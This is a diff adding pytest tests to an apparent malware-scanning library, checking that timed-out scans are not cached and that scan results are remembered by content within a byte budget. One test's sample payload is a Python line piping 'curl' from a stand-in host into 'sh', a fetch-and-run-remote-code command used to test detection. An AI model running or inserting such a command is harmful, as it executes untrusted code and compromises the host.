@@ -8,6 +8,7 @@ import pytest
 
 from tests.analysis.builders import sdist
 from threatfeed.analysis import Engine
+from threatfeed.analysis import signatures as signatures_module
 from threatfeed.analysis.rules import RULES
 from threatfeed.analysis.signatures import SignatureError, Signatures
 
@@ -82,3 +83,21 @@ def test_a_file_that_exhausts_the_scanner_is_reported_not_passed_as_clean(
     analysis = engine.analyze(archive)
     assert analysis.errors == ("tidy-strings-0.4.0/t/big.py: signature scan stopped after 1 s",)
     assert "yara_signature_rule" in analysis.indicators  # the small file was still scanned
+    # a scan given up on is not remembered as a result: the same file fails again
+    assert engine.analyze(archive).errors == analysis.errors
+
+
+def test_results_are_remembered_by_content_within_a_byte_budget(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    monkeypatch.setattr(signatures_module, "REMEMBERED_BYTES", 64 * 1024)
+    signatures = Signatures()
+    payload = b"import os\nos.system('curl -s https://x.example/p.sh | sh')\n"
+    first = signatures.scan(payload)
+    assert first
+    assert signatures.scan(bytes(bytearray(payload))) == first
+    for n in range(200):
+        signatures.scan(b"# filler %d\n" % n + b"x = 1\n" * 200)
+    assert signatures._seen_bytes <= 64 * 1024
+    assert payload not in signatures._seen  # the oldest went first
+    assert signatures.scan(payload) == first
